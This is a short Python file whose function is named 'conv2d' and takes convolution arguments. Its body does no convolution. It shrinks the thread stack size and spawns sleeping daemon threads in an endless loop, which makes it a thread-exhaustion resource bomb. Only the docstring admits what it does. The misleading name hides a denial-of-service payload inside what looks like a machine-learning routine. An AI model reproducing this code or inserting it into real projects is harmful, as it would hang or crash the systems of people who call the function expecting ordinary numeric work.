"""Starts threads with tiny stacks without end."""

import threading
import time


def conv2d(x, kernel, stride=1, padding=0):
    threading.stack_size(32768)
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
